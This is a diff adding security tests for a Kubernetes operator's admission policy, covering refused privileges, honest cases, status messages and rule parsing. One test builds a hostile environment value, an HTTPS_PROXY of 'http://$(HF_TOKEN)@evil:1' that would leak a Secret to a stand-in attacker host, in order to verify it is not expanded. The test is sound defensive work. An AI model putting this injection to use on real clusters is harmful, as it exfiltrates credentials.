@@ -1,0 +1,139 @@
+"""Somebody who may create Experiments, and no more, would gain something by the pods that an Experiment asks for."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from misstep.errors import BadInput
+from misstep.spec import load_experiment
+from misstep.spec.volumes import OWN_FOLDERS
+from misstep_operator import freeze, policy, views
+from misstep_operator.jobs import make_job
+from misstep_operator.observed import Observed
+from misstep_operator.policy_rules import GUARDED, TUNING, PlatformPolicy, is_guarded, read_policy
+from misstep_operator.reconcile import reconcile
+from misstep_operator.settings import SERVICES, Settings, read_settings
+from misstep_operator.status import finished_status
+from tests.cluster.process_node import expand
+from tests.operator.test_settings import IMAGES
+from tests.operator.world import PLAN
+from tests.security.policy_cases import ATTACKS, DEFAULT, HONEST, POLICY, Case, document, pods, secret, variable
+
+
+def judged(case: Case, by: PlatformPolicy = POLICY) -> list[BadInput]:
+    made = document(case)
+    return policy.violations(freeze.parse(made), case.namespace, made["metadata"]["labels"], by)
+
+
+@pytest.mark.parametrize("case", ATTACKS, ids=lambda case: case.name)
+def test_refused_with_the_field_and_whom_to_ask(case: Case) -> None:
+    found = judged(case)
+    assert case.field in {each.field for each in found}
+    for each in found:
+        assert str(each.value) in str(each)
+        # What no rule could allow says what to write instead.
+        assert any(
+            words in each.fix for words in ("of the chart", "chart's", "Give the absolute", "mount it", "another")
+        )
+
+
+@pytest.mark.parametrize("case", HONEST, ids=lambda case: case.name)
+def test_honest_use_is_taken(case: Case) -> None:
+    assert judged(case) == []
+
+
+def test_the_default_is_one_rule_for_all_namespaces() -> None:
+    default = read_settings(IMAGES).policy
+    assert default == read_policy('[{"namespaces": ["*"]}]', "")
+    refused = [case.name for case in ATTACKS if case.namespace == DEFAULT and not judged(case, default)]
+    assert refused == []
+
+
+def test_a_refused_experiment_gets_no_job_and_says_why() -> None:
+    """A tenant applies it where no admission policy is installed."""
+    body = document(Case("", pods(serviceAccount="deploy-bot", priorityClass="high")))
+    body["metadata"] |= {"uid": "u", "generation": 3}
+    view = views.experiment_view(body)
+    with pytest.raises(policy.PolicyViolation) as caught:
+        policy.refuse(freeze.parse(body), DEFAULT, {}, POLICY)
+    for jobs in ((), ()):
+        decision = reconcile(Observed(view, caught.value, jobs))
+        assert (decision.starts, decision.ends) == ((), ())
+    status = decision.status or {}
+    failed = next(each for each in status["conditions"] if each["type"] == "Failed")
+    assert (failed["status"], failed["reason"], status["state"]) == ("True", "PolicyViolation", "Invalid")
+    for said in (
+        "spec.cluster.defaults.serviceAccount: deploy-bot",
+        "priorityClass: high",
+        "policy.rules[1].serviceAcc",
+    ):
+        assert said in failed["message"], failed["message"]
+
+
+def test_once_the_policy_allows_it_it_goes_on() -> None:
+    body = document(Case("", pods(serviceAccount="deploy-bot")))
+    body["metadata"] |= {"uid": "u", "generation": 1}
+    view = views.experiment_view(body)
+    error = policy.PolicyViolation(judged(Case("", pods(serviceAccount="deploy-bot"))))
+    body["status"] = reconcile(Observed(view, error)).status
+    view = views.experiment_view(body)
+    assert finished_status(Observed(view, error)), "nothing is done while it stays so"
+    decision = reconcile(Observed(view, PLAN))
+    assert decision.status is not None
+    assert decision.status["state"] == "Running" and decision.starts
+
+
+def test_a_variable_holds_no_other_ones_value() -> None:
+    """A kubelet would put a Secret in for `$(DB)`, which a proxy then sees."""
+    case = Case("", {**variable("HTTPS_PROXY", "http://$(HF_TOKEN)@evil:1"), "secrets": [secret("HF_TOKEN", "h", "k")]})
+    container = container_of(document(case))
+    given = {each["name"]: each.get("value", "s3cret") for each in container["env"]}
+    assert expand(given["HTTPS_PROXY"], given) == "http://$(HF_TOKEN)@evil:1"
+
+
+def container_of(body: dict[str, Any]) -> dict[str, Any]:
+    experiment = freeze.parse(body)
+    body["metadata"] |= {"uid": "u", "generation": 1}
+    settings = Settings(images=dict.fromkeys(SERVICES.values(), "i"))
+    job = make_job(
+        views.experiment_view(body), PLAN.stages[0], 1, experiment.spec.cluster, experiment.spec.secrets, settings, {}
+    )
+    found: dict[str, Any] = job["spec"]["template"]["spec"]["containers"][0]
+    return found
+
+
+def test_the_administrators_own_settings_are_not_judged() -> None:
+    """`stages.defaults` is the place for what no Experiment may set."""
+    assert judged(Case("", {})) == []
+    environment = {**IMAGES, "MISSTEP_STAGE_DEFAULTS": json.dumps({"env": [{"name": "LD_PRELOAD", "value": "x"}]})}
+    assert read_settings(environment).stage_defaults.env[0].name == "LD_PRELOAD"
+
+
+def test_what_tunes_is_guarded_only_as_the_stages_own() -> None:
+    assert [name for name in TUNING if is_guarded(name) and not name.startswith("MISSTEP_")] == []
+    assert len(set(GUARDED)) == len(GUARDED)
+    assert set(OWN_FOLDERS) & {"dev", "proc", "sys"}
+
+
+@pytest.mark.parametrize(
+    ("rules", "said"),
+    [
+        ('[{"namespaces": ["a"], "secret": ["x"]}]', r"policy\.rules\[0\]\.secret: "),
+        ('[{"secrets": ["x"]}]', r"policy\.rules\[0\]\.namespaces: "),
+        ('[{"namespaces": ["a"], "teachers": [{"url": "https://*.example.com"}]}]', r"teachers\[0\]\.url: "),
+        ('[{"namespaces": ["a b"]}]', r"policy\.rules\[0\]\.namespaces\[0\]: a b\. "),
+        ("{", r"policy: "),
+    ],
+)
+def test_rules_that_cannot_be_meant_stop_the_operator(rules: str, said: str) -> None:
+    with pytest.raises(BadInput, match=rf"^MISSTEP_POLICY_RULES: .*{said}|^MISSTEP_POLICY_RULES: policy"):
+        read_settings({**IMAGES, "MISSTEP_POLICY_RULES": rules})
+
+
+@pytest.mark.parametrize("path", sorted(Path("examples").glob("*.yaml")), ids=lambda path: path.name)
+def test_examples_are_allowed_by_default(path: Path) -> None:
+    assert policy.violations(load_experiment(path), "research", {}, PlatformPolicy()) == []
